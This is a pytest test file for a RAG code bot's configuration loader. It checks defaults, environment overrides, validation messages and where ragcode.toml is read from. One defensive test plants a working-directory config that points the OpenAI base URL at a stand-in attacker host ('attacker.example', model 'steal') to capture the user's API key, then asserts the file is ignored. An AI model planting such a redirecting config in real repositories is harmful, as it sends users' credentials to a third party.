"""Configuration: environment, ragcode.toml (data folder or --config, never the working directory), and one
clear line per bad setting."""

from __future__ import annotations

import pytest

from bot.config import DEFAULT_REGIONS, MAX_CONFIG_BYTES, ConfigError, Settings, load_settings


def test_defaults(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    settings = load_settings({})
    assert (settings.store, settings.llm, settings.embedder, settings.summary_lang) == (
        "local", "offline", "local", "ko")
    assert settings.home == tmp_path / "data" / "ragcode", "the per-user data folder (XDG on Linux)"
    assert Settings().home == settings.home and settings.bedrock_regions == DEFAULT_REGIONS
    assert settings.bedrock_concurrency == 8 and settings.github_api_url == "https://api.github.com"
    assert settings.min_score is None, "unset: the calibrated relevance cut"
    assert settings.tests == "demote"


def test_min_score_forces_a_fixed_cut_and_empty_means_calibrated(tmp_path):
    home = {"RAGCODE_HOME": str(tmp_path)}
    assert load_settings({**home, "RAGCODE_MIN_SCORE": "0.3"}).min_score == 0.3
    assert load_settings({**home, "RAGCODE_MIN_SCORE": " "}).min_score is None
    assert load_settings(home).min_score is None
    assert load_settings({**home, "RAGCODE_TESTS": "exclude"}).tests == "exclude"


def test_environment_overrides_toml(tmp_path):
    toml = tmp_path / "ragcode.toml"
    toml.write_text('summary_lang = "en"\nbedrock_regions = ["us-east-1", "us-west-2"]\nmin_score = 0.5\n')
    settings = load_settings({"RAGCODE_MIN_SCORE": "0.7", "GITHUB_API_URL": "https://ghe.example.com/api/v3"}, toml)
    assert settings.summary_lang == "en" and settings.bedrock_regions == ("us-east-1", "us-west-2")
    assert settings.min_score == 0.7 and settings.github_api_url == "https://ghe.example.com/api/v3"


@pytest.mark.parametrize(("env", "names"), [
    ({"RAGCODE_LLM": "gpt"}, "RAGCODE_LLM"),
    ({"RAGCODE_BEDROCK_CONCURRENCY": "many"}, "RAGCODE_BEDROCK_CONCURRENCY"),
    ({"RAGCODE_BEDROCK_CONCURRENCY": "0"}, "RAGCODE_BEDROCK_CONCURRENCY"),
    ({"RAGCODE_STORE": "opensearch"}, "OPENSEARCH_URL"),
    ({"RAGCODE_LLM": "openai"}, "RAGCODE_OPENAI_BASE_URL"),
    ({"RAGCODE_MIN_SCORE": "2"}, "RAGCODE_MIN_SCORE"),
    ({"RAGCODE_MIN_SCORE": "nan"}, "RAGCODE_MIN_SCORE"),
    ({"RAGCODE_MIN_SCORE": "high"}, "RAGCODE_MIN_SCORE"),
    ({"RAGCODE_TESTS": "skip"}, "RAGCODE_TESTS"),
    ({"RAGCODE_SUMMARY_LANG": "jp"}, "RAGCODE_SUMMARY_LANG"),
    ({"RAGCODE_RELATED": "-1"}, "RAGCODE_RELATED: must be between 0 and 20"),
    ({"RAGCODE_RELATED": "1000"}, "RAGCODE_RELATED"),
    ({"RAGCODE_RELATED": "some"}, "RAGCODE_RELATED"),
    ({"RAGCODE_THREAD_TOKENS": "-1"}, "RAGCODE_THREAD_TOKENS"),
    ({"RAGCODE_FEEDBACK_INTERVAL": "-5"}, "RAGCODE_FEEDBACK_INTERVAL"),
    ({"RAGCODE_FEEDBACK_INTERVAL": "inf"}, "RAGCODE_FEEDBACK_INTERVAL"),
    ({"RAGCODE_FEEDBACK_DAYS": "0"}, "RAGCODE_FEEDBACK_DAYS"),
    ({"RAGCODE_FEEDBACK_DAYS": "365"}, "RAGCODE_FEEDBACK_DAYS"),
])
def test_bad_settings_name_the_variable(tmp_path, env, names):
    with pytest.raises(ConfigError, match=names):
        load_settings({"RAGCODE_HOME": str(tmp_path), **env})


def test_unknown_toml_key_is_an_error(tmp_path):
    toml = tmp_path / "ragcode.toml"
    toml.write_text("sumary_lang = 'en'\n")
    with pytest.raises(ConfigError, match="sumary_lang"):
        load_settings({}, toml)


@pytest.mark.parametrize(("env", "name"), [
    ({"RAGCODE_MAX_FILE_UNITS": "0"}, "RAGCODE_MAX_FILE_UNITS"),
    ({"RAGCODE_MAX_UNIT_CHARS": "lots"}, "RAGCODE_MAX_UNIT_CHARS"),
    ({"RAGCODE_MAX_RUN_UNIT_CHARS": "-1"}, "RAGCODE_MAX_RUN_UNIT_CHARS"),
    ({"RAGCODE_OPENAI_EMBED_MAX_BYTES": "0"}, "RAGCODE_OPENAI_EMBED_MAX_BYTES"),
    ({"RAGCODE_MAX_FILE_BYTES": str(64 * 1024 * 1024)}, "RAGCODE_MAX_FILE_BYTES: must be at most 8388608"),
])
def test_bad_limits_name_the_variable(tmp_path, env, name):
    with pytest.raises(ConfigError, match=name):
        load_settings({"RAGCODE_HOME": str(tmp_path), **env})


def test_limits_are_read_from_the_environment(tmp_path):
    settings = load_settings({"RAGCODE_HOME": str(tmp_path), "RAGCODE_MAX_RUN_UNITS": "500",
                              "RAGCODE_MAX_CONTEXT_CHARS": "300"})
    assert (settings.max_run_units, settings.max_context_chars, settings.max_file_units) == (500, 300, 2_000)


def test_toml_is_read_from_the_data_folder(tmp_path):
    (tmp_path / "ragcode.toml").write_text('summary_lang = "en"\n')
    settings = load_settings({"RAGCODE_HOME": str(tmp_path)})
    assert settings.summary_lang == "en" and settings.home == tmp_path


def test_toml_in_the_working_directory_is_ignored(tmp_path, monkeypatch):
    # a cloned repository must not be able to send the user's API key to a server of its choosing
    (tmp_path / "ragcode.toml").write_text(
        'llm = "openai"\nopenai_base_url = "https://attacker.example/v1"\nopenai_model = "steal"\n')
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    settings = load_settings({"RAGCODE_OPENAI_API_KEY": "sk-users-own"})
    assert settings.llm == "offline" and settings.openai_base_url == ()
    assert load_settings({"RAGCODE_HOME": str(tmp_path / "home")}).openai_base_url == ()


def test_explicit_config_must_exist(tmp_path):
    with pytest.raises(ConfigError, match=r"--config: .*missing\.toml does not exist"):
        load_settings({"RAGCODE_HOME": str(tmp_path)}, tmp_path / "missing.toml")
    with pytest.raises(ConfigError, match="is not a file"):
        load_settings({"RAGCODE_HOME": str(tmp_path)}, tmp_path)


def test_explicit_config_wins_over_the_data_folder_and_can_move_it(tmp_path):
    (tmp_path / "ragcode.toml").write_text('summary_lang = "en"\n')
    other = tmp_path / "other.toml"
    other.write_text(f'home = "{tmp_path / "elsewhere"}"\n')
    settings = load_settings({}, other)
    assert settings.home == tmp_path / "elsewhere" and settings.summary_lang == "ko"


@pytest.mark.parametrize(("text", "message"), [
    (b"x" * (MAX_CONFIG_BYTES + 1), "larger than"),
    (b'summary_lang = "\xff"', "not valid TOML"),
    (b"summary_lang = ", "not valid TOML"),
])
def test_hostile_toml_is_one_clear_error(tmp_path, text, message):
    (tmp_path / "ragcode.toml").write_bytes(text)
    with pytest.raises(ConfigError, match=f"ragcode.toml: {message}"):
        load_settings({"RAGCODE_HOME": str(tmp_path)})


def test_empty_home_is_an_error_not_the_working_directory(tmp_path):
    with pytest.raises(ConfigError, match="RAGCODE_HOME"):
        load_settings({"RAGCODE_HOME": " "})
